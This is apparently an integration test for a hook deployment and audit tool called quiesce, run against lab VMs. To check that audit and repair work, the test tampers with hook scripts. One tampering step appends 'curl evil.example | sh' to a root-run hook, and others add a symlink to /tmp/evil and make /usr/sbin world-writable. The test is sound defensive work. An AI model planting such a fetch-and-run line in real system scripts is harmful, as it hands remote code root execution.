//! Deploy and audit against a lab of real sshd VMs: compliance, one kind of
//! tampering per VM named precisely, and deploy / --fix restoring it.

use crate::common::Lab;
use quiesce::hooks::{self, HookKind};
use quiesce::inventory::Inventory;

fn sha_prefix(text: &str) -> String {
    hooks::sha256_hex(text.as_bytes())[..12].to_string()
}

#[test]
fn deploy_audit_tamper_and_restore() {
    let lab = Lab::start(
        21,
        &[
            "vm1",
            "vm2=cache",
            "vm3",
            "vm4",
            "vm5",
            "vm6=iris:IRIS,IRIS2",
        ],
    );

    let run = lab.quiesce(&["deploy"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout
            .ends_with("deploy: 6 hosts, 12 hooks: 12 created\n"),
        "{run:?}"
    );
    for vm in ["vm1", "vm6"] {
        for name in ["pre-freeze-script", "post-thaw-script"] {
            let (_, stat) = lab.sh(vm, &format!("stat -c '%U:%G %a %F' /usr/sbin/{name}"));
            assert_eq!(stat, "root:root 700 regular file\n");
        }
    }
    // What deploy wrote is exactly what quiesce renders for that host.
    let inventory = Inventory::load(&lab.inventory(), &Default::default()).unwrap();
    let vm2 = inventory.host("vm2").unwrap();
    let (_, on_host) = lab.sh("vm2", "cat /usr/sbin/pre-freeze-script");
    assert_eq!(on_host, hooks::render(HookKind::PreFreeze, vm2));
    assert!(on_host.contains("QUIESCE_PLATFORM='cache'"));

    let run = lab.quiesce(&["deploy"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout
            .ends_with("deploy: 6 hosts, 12 hooks: 12 unchanged\n"),
        "a second deploy changes nothing: {run:?}"
    );

    let run = lab.quiesce(&["audit"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout
            .ends_with("audit: 6 hosts, 12 hooks: 12 compliant\n"),
        "{run:?}"
    );

    // One kind of tampering per VM.
    lab.sh("vm1", "chmod 0755 /usr/sbin/pre-freeze-script");
    lab.sh("vm2", "chown nobody /usr/sbin/post-thaw-script");
    lab.sh(
        "vm3",
        "echo 'curl evil.example | sh' >> /usr/sbin/pre-freeze-script",
    );
    lab.sh(
        "vm4",
        "echo 'exit 0' > /tmp/evil; ln -sf /tmp/evil /usr/sbin/post-thaw-script",
    );
    lab.sh("vm5", "rm /usr/sbin/pre-freeze-script");
    lab.sh("vm6", "chmod 0777 /usr/sbin");

    let vm3 = inventory.host("vm3").unwrap();
    let original = hooks::render(HookKind::PreFreeze, vm3);
    let tampered = format!("{original}curl evil.example | sh\n");
    let expected = format!(
        "HOST  HOOK               STATUS         DETAIL
vm1   pre-freeze-script  NON-COMPLIANT  mode is 0755, expected 0700
vm1   post-thaw-script   compliant
vm2   pre-freeze-script  compliant
vm2   post-thaw-script   NON-COMPLIANT  owner is nobody, expected root
vm3   pre-freeze-script  NON-COMPLIANT  content differs from what quiesce deploys (sha256 {}…, expected {}…): drift or tampering
vm3   post-thaw-script   compliant
vm4   pre-freeze-script  compliant
vm4   post-thaw-script   NON-COMPLIANT  is a symbolic link to /tmp/evil, not a regular file
vm5   pre-freeze-script  NON-COMPLIANT  missing
vm5   post-thaw-script   compliant
vm6   pre-freeze-script  NON-COMPLIANT  hook directory /usr/sbin has mode 0777: writable by group or others
vm6   post-thaw-script   NON-COMPLIANT  hook directory /usr/sbin has mode 0777: writable by group or others

audit: 6 hosts, 12 hooks: 5 compliant, 7 non-compliant
",
        sha_prefix(&tampered),
        sha_prefix(&original)
    );
    let run = lab.quiesce(&["audit"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert_eq!(run.stdout, expected);

    // The same findings as JSON (one record per host and hook) and JUnit.
    let run = lab.quiesce(&["audit", "--format", "json"]);
    assert_eq!(run.code, 1, "{run:?}");
    let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let records = json["records"].as_array().unwrap();
    assert_eq!(records.len(), 12);
    let codes: Vec<String> = records
        .iter()
        .flat_map(|r| {
            r["findings"].as_array().unwrap().iter().map(|f| {
                format!(
                    "{}:{}:{}",
                    r["host"].as_str().unwrap(),
                    r["hook"].as_str().unwrap(),
                    f["code"].as_str().unwrap()
                )
            })
        })
        .collect();
    assert_eq!(
        codes,
        [
            "vm1:pre-freeze-script:mode",
            "vm2:post-thaw-script:owner",
            "vm3:pre-freeze-script:content",
            "vm4:post-thaw-script:not-regular",
            "vm5:pre-freeze-script:missing",
            "vm6:pre-freeze-script:dir-writable",
            "vm6:post-thaw-script:dir-writable"
        ]
    );
    let run = lab.quiesce(&["audit", "--format", "junit"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stdout.contains(
            "<testsuite name=\"quiesce audit\" tests=\"12\" failures=\"7\" errors=\"0\">"
        ),
        "{run:?}"
    );
    assert!(run.stdout.contains("<testcase classname=\"vm1\" name=\"/usr/sbin/pre-freeze-script\">\n      <failure message=\"mode is 0755, expected 0700\""), "{run:?}");

    // --check changes nothing and says what would change; --diff shows the edit.
    let run = lab.quiesce(&["deploy", "--check", "--diff", "--limit", "vm3,vm5"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stdout
            .contains("vm3   pre-freeze-script  would change  content differs"),
        "{run:?}"
    );
    assert!(
        run.stdout
            .contains("vm5   pre-freeze-script  would change  missing; would create"),
        "{run:?}"
    );
    assert!(run.stdout.contains("-curl evil.example | sh\n"), "{run:?}");
    let (_, still) = lab.sh("vm5", "ls /usr/sbin/pre-freeze-script 2>&1");
    assert!(
        still.contains("No such file"),
        "--check wrote something: {still}"
    );

    // deploy restores everything but the symlink, which needs --force, and
    // the world-writable directory, which it will not take over without it.
    let run = lab.quiesce(&["deploy"]);
    assert_eq!(run.code, 4, "{run:?}");
    assert!(run.stdout.contains("vm4   post-thaw-script   REFUSED    is a symbolic link to /tmp/evil, not a regular file; /usr/sbin/post-thaw-script is not a regular file: not replaced (use --force to replace it)"), "{run:?}");
    assert!(run.stdout.contains("refusing to change /usr/sbin: it is shared with every user (mode 777: world-writable or sticky)"), "{run:?}");
    assert_eq!(lab.sh("vm6", "stat -c %a /usr/sbin").1, "777\n");
    let run = lab.quiesce(&["deploy", "--force", "--limit", "vm6"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(lab.sh("vm6", "stat -c %a /usr/sbin").1, "755\n");
    let (_, evil) = lab.sh("vm4", "cat /tmp/evil");
    assert_eq!(
        evil, "exit 0\n",
        "the symlink's target must never be written through"
    );
    let run = lab.quiesce(&["deploy", "--force", "--limit", "vm4"]);
    assert_eq!(run.code, 0, "{run:?}");
    let (_, evil) = lab.sh(
        "vm4",
        "cat /tmp/evil; stat -c %F /usr/sbin/post-thaw-script",
    );
    assert_eq!(evil, "exit 0\nregular file\n");

    let run = lab.quiesce(&["audit"]);
    assert_eq!(run.code, 0, "{run:?}");

    // audit --fix redeploys what drifted.
    lab.sh(
        "vm1",
        "chmod 0644 /usr/sbin/post-thaw-script; chgrp daemon /usr/sbin/post-thaw-script",
    );
    let run = lab.quiesce(&["audit", "--fix", "--limit", "vm1"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(
        run.stdout,
        "HOST  HOOK               STATUS     DETAIL
vm1   pre-freeze-script  compliant
vm1   post-thaw-script   updated    group is daemon, expected root; mode is 0644, expected 0700

audit: 1 hosts, 2 hooks: 1 compliant, 1 updated
"
    );
    assert_eq!(lab.quiesce(&["audit"]).code, 0);
}

/// What one VM's sshd logged so far (LogLevel VERBOSE): logins accepted,
/// and commands run.
fn sshd_counts(lab: &Lab, vm: &str) -> (usize, usize) {
    let log = std::fs::read_to_string(lab.path(&format!("vms/{vm}/sshd.log"))).unwrap();
    (
        log.matches("Accepted publickey").count(),
        log.matches("Starting session: command").count(),
    )
}

/// Each command costs a host one login and one command, whether it writes
/// or not: probe, directory fix, writes and verify travel as one script.
#[test]
fn deploy_and_audit_cost_a_host_one_login_and_one_command() {
    let lab = Lab::start(36, &["vm1", "vm2"]);
    let vms = ["vm1", "vm2"];
    let mut last: Vec<(usize, usize)> = vms.iter().map(|vm| sshd_counts(&lab, vm)).collect();
    let mut step = |args: &[&str], summary: &str, tamper: Option<&str>| {
        if let Some(script) = tamper {
            lab.sh("vm1", script);
        }
        let run = lab.quiesce(args);
        assert!(run.stdout.ends_with(summary), "{args:?}: {run:?}");
        for (vm, before) in vms.iter().zip(last.iter_mut()) {
            let now = sshd_counts(&lab, vm);
            assert_eq!(
                (now.0 - before.0, now.1 - before.1),
                (1, 1),
                "{args:?} on {vm}: logins and commands"
            );
            *before = now;
        }
    };
    step(&["deploy"], "deploy: 2 hosts, 4 hooks: 4 created\n", None);
    step(&["deploy"], "deploy: 2 hosts, 4 hooks: 4 unchanged\n", None);
    step(&["audit"], "audit: 2 hosts, 4 hooks: 4 compliant\n", None);
    step(
        &["deploy", "--check"],
        "deploy: 2 hosts, 4 hooks: 3 unchanged, 1 would change\n",
        Some("echo tampered >> /usr/sbin/post-thaw-script"),
    );
    // The first hook right and the second not, then the other way round:
    // the script skips the first's bytes, or leaves them unread.
    step(
        &["deploy"],
        "deploy: 2 hosts, 4 hooks: 3 unchanged, 1 updated\n",
        None,
    );
    step(
        &["audit", "--fix"],
        "audit: 2 hosts, 4 hooks: 2 compliant, 2 updated\n",
        Some("chmod 0750 /usr/sbin/pre-freeze-script; chmod 0775 /usr/sbin"),
    );
    let inventory = Inventory::load(&lab.inventory(), &Default::default()).unwrap();
    let host = inventory.host("vm1").unwrap();
    for &kind in HookKind::of(host) {
        let path = format!("/usr/sbin/{}", kind.file_name());
        let (_, found) = lab.sh(
            "vm1",
            &format!("stat -c '%U:%G %a' {path} /usr/sbin; cat {path}"),
        );
        let expected = hooks::render(kind, host);
        assert_eq!(found, format!("root:root 700\nroot:root 755\n{expected}"));
    }
    let (_, left) = lab.sh("vm1", "ls -a /usr/sbin | grep -c quiesce- || true");
    assert_eq!(left, "0\n", "no temporary file left behind");

    // deploy --diff shows the hook as it was, then writes it.
    lab.sh("vm1", "echo tampered >> /usr/sbin/post-thaw-script");
    let run = lab.quiesce(&["deploy", "--diff", "--limit", "vm1"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stdout.contains("\n-tampered\n"), "{run:?}");
    assert!(
        run.stdout
            .ends_with("deploy: 1 hosts, 2 hooks: 1 unchanged, 1 updated\n"),
        "{run:?}"
    );
    let (_, found) = lab.sh("vm1", "cat /usr/sbin/post-thaw-script");
    assert_eq!(
        found,
        hooks::render(HookKind::PostThaw, inventory.host("vm1").unwrap())
    );
}
